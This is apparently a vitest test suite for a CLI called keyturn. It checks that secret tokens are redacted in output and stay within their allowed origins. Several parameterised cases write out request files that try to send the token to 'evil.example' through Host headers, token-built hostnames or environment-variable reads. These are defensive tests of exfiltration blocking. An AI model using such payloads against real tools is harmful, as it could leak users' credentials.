import { spawn } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { createServer as createNetServer, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { KeychainSecretStore } from '../../src/keychain/keychainSecretStore.ts';
import { main } from '../../src/terminal/main.ts';
import { readSecret } from '../../src/terminal/ask/secretPrompt.ts';
import type { Streams } from '../../src/terminal/output/streams.ts';
import { keyturn, type Outcome } from './support.ts';

const token = 'Canary-Token-0123456789';
const env = {
  KEYTURN_TOKEN_API: token,
  KEYTURN_TOKEN_PAIR: `bob:${token}`,
  KEYTURN_CLIENT_SECRET_API: token,
};

let server: Server;
let origin: string;
let folder: string;
let requests: IncomingMessage[];
let answer: (request: IncomingMessage, response: ServerResponse) => void;

beforeAll(async () => {
  server = createServer((request, response) => {
    requests.push(request);
    answer(request, response);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => {
  server.closeAllConnections();
  server.close();
});
beforeEach(async () => {
  requests = [];
  answer = (_request, response) => response.end('ok');
  folder = await mkdtemp(join(tmpdir(), 'keyturn-hostile-'));
  const pair = { grant: 'static', origins: [origin], sendAs: { basic: {} } };
  const tokens = { api: { grant: 'static', origins: [origin] }, pair };
  await writeFile(join(folder, 'keyturn.json'), JSON.stringify({ tokens }));
});
afterEach(() => rm(folder, { recursive: true, force: true }));

async function run(text: string, ...args: string[]): Promise<Outcome> {
  await writeFile(join(folder, 'a.http'), text);
  return keyturn(['run', 'a.http', ...args], { cwd: folder, env });
}

function errorOf(outcome: Outcome): unknown {
  return (JSON.parse(outcome.out) as { error: unknown }).error;
}

describe('a server that echoes the token', () => {
  it('in its status line, in the name of a header, in the name and the unit of a limit', async () => {
    answer = (_request, response) => {
      const limit = `"${token}";r=1;t=5`;
      const policy = `"${token}";q=5;w=5;qu="${token}"`;
      const headers = [`X-${token}`, 'a', 'RateLimit', limit, 'RateLimit-Policy', policy];
      response.writeHead(200, `OK ${token}`, headers).end('x');
    };
    const text = `# @token api\nGET ${origin}/\n`;
    for (const args of [[], ['--json'], ['--line', '2']]) {
      const { code, out, err } = await run(text, ...args);
      expect(code).toBe(0);
      expect(out + err).toContain(args[0] === '--json' ? 'X-•••api•••' : 'OK •••api•••');
      expect(out + err).not.toContain(token);
    }
  });

  it('in a body that calls itself an image', async () => {
    answer = (_request, response) => {
      response.writeHead(200, { 'content-type': 'image/png' }).end(`PNG ${btoa(`u:${token}`)}`);
    };
    const { out, err } = await run(`# @token api\nGET ${origin}/\n`, '--line', '2');
    expect(out).toBe('');
    expect(err).toContain('Keyturn does not print this body, because it contains a token');
  });

  it('as the password alone', async () => {
    answer = (_request, response) => response.end(JSON.stringify({ user: 'bob', password: token }));
    const { out } = await run(`# @token pair\nGET ${origin}/\n`, '--line', '2');
    expect(JSON.parse(out)).toEqual({ user: 'bob', password: '•••pair•••' });
  });
});

describe('a request file that wants the token elsewhere', () => {
  it.each([
    ['# @token api\nGET ORIGIN/\nHost: evil.example\n', 'insecure_origin'],
    ['GET ORIGIN/?{{$token api}}\nHost: localhost:1\n', 'origin_not_allowed'],
    ['# @token api\nGET /\nHost: evil.example:443\n', 'origin_not_allowed'],
    ['# @token api\nGET ORIGIN/\nHost: x@evil.example\n', 'request_invalid'],
    ['# @token api\nGET http://evil.example/\n', 'insecure_origin'],
    ['GET ORIGIN/?{{$processEnv KEYTURN_TOKEN_API}}\n', 'variable_invalid'],
    ['GET ORIGIN/?{{$processEnv keyturn_client_secret_api}}\n', 'variable_invalid'],
    ['@n = KEYTURN_TOKEN_API\nGET ORIGIN/?{{$processEnv %n}}\n', 'variable_invalid'],
    ['GET http://{{$token api}}.evil.example/\n', 'request_invalid'],
    ['GET {{$token api}}://evil.example/\n', 'request_invalid'],
    ['@t = {{$token api}}\nGET {{t}}\n', 'request_invalid'],
    ['GET /{{$token api}}\nHost: {{$token api}}.evil.example\n', 'request_invalid'],
  ])('%j: %s', async (text, code) => {
    const outcome = await run(text.replace('ORIGIN', origin), '--json');
    expect(errorOf(outcome)).toMatchObject({ code });
    expect(outcome.code).toBe(1);
    expect((outcome.out + outcome.err).toLowerCase()).not.toContain(token.toLowerCase());
    expect(requests).toEqual([]);
  });

  it('lets it stand in user information, the path and the query', async () => {
    const place = origin.replace('://', '://bob:{{$token api}}@');
    const outcome = await run(`GET ${place}/{{$token api}}?{{$token api}}\n`, '--json');
    expect(outcome.code).toBe(0);
    expect(requests[0]?.url).toBe(`/${token}?${token}`);
    expect(requests[0]?.headers.authorization).toBe(`Basic ${btoa(`bob:${token}`)}`);
    expect(outcome.out).not.toContain(token);
  });
});

it('does not show a password that stands in a URL', async () => {
  const { out } = await run(`GET ${origin.replace('://', '://bob:open-sesame@')}/\n`, '--json');
  expect(out).not.toContain('open-sesame');
  expect(out).toContain('bob:•••@127.0.0.1');
});

describe('the name behind # @token', () => {
  it.each(['"api"', "'api'", 'api # reads reports', 'api // reads', '= api'])('%s', async (written) => {
    expect(await run(`# @token ${written}\nGET ${origin}/\n`)).toMatchObject({ code: 0 });
    expect(requests[0]?.headers.authorization).toBe(`Bearer ${token}`);
  });

  it('must not be missing', async () => {
    expect(errorOf(await run(`# @token\nGET ${origin}/\n`, '--json'))).toMatchObject({
      code: 'request_invalid',
    });
    expect(requests).toEqual([]);
    expect(await run(`# @token\nGET ${origin}/\n`, '--token', 'api')).toMatchObject({ code: 0 });
  });
});

describe('the command', () => {
  it('knows no command that is only a word of the language', async () => {
    expect(await keyturn(['help', 'constructor'], { cwd: folder })).toMatchObject({ code: 2, out: '' });
  });

  it.each([
    [['help', 'token', 'verify'], 'Usage: keyturn token verify'],
    [['help', 'run'], 'Usage: keyturn run'],
    [['token', 'help'], 'Usage: keyturn token COMMAND'],
    [['help'], 'Usage:\n'],
  ])('helps with %j', async (args, usage) => {
    const { code, out } = await keyturn(args, { cwd: folder });
    expect(code).toBe(0);
    expect(out).toContain(usage);
  });

  it('complains in one line', async () => {
    const { code, err } = await keyturn(['run', 'a.http', '--timeout', '-1'], { cwd: folder });
    expect(code).toBe(2);
    expect(err.trimEnd().split('\n')).toHaveLength(1);
  });

  it('says where an unforeseen failure happened, without its message', async () => {
    const err = new PassThrough();
    const out = new PassThrough();
    out.write = () => {
      throw new TypeError(`Cannot print ${token}`);
    };
    const streams: Streams = {
      in: new PassThrough(),
      out,
      err,
      env: { KEYTURN_DEBUG: '1' },
      cwd: folder,
      sandboxEntry: '',
    };
    expect(await main(['--version'], streams)).toBe(1);
    const text = String(err.read());
    expect(text).toContain('TypeError\n    at ');
    expect(text).not.toContain(token);
  });

  it('does not call a token missing when the keychain could not be read', async () => {
    for (const args of [['show', 'api'], ['list']]) {
      const outcome = await keyturn(['token', ...args], { cwd: folder });
      expect(outcome.code).toBe(1);
      expect(outcome.err).toContain('There is no usable keychain here.');
      expect(outcome.err).toContain('KEYTURN_TOKEN_');
    }
    expect((await keyturn(['token', 'show', 'api'], { cwd: folder })).out).toBe('');
  });

  it('does not wait for a keychain when it is stopped', async () => {
    const abort = new AbortController();
    // A bus that takes connections and says nothing.
    const bus = createNetServer();
    await new Promise<void>((resolve) => bus.listen(join(folder, 'bus'), resolve));
    const bussed = { ...process.env, DBUS_SESSION_BUS_ADDRESS: `unix:path=${join(folder, 'bus')}` };
    const store = new KeychainSecretStore({ env: bussed, signal: abort.signal });
    const reading = store.get('key');
    abort.abort();
    await expect(reading).rejects.toMatchObject({ code: 'cancelled' });
    await expect(store.keys()).rejects.toMatchObject({ code: 'cancelled' });
    bus.close();
  });

  it('gives up waiting for a secret when it is stopped', async () => {
    const streams: Streams = {
      in: new PassThrough(),
      out: new PassThrough(),
      err: new PassThrough(),
      env: {},
      cwd: folder,
      sandboxEntry: '',
    };
    const abort = new AbortController();
    const reading = readSecret(streams, 'Token: ', abort.signal);
    abort.abort();
    await expect(reading).rejects.toMatchObject({ code: 'cancelled' });
  });

  it('keeps its exit code when its messages are not read', async () => {
    const child = spawn(process.execPath, [join(import.meta.dirname, '../../src/cli.ts'), 'nope'], {
      stdio: ['ignore', 'ignore', 'pipe'],
    });
    child.stderr.destroy();
    const code = await new Promise((resolve) => child.once('exit', resolve));
    expect(code).toBe(2);
  });
});
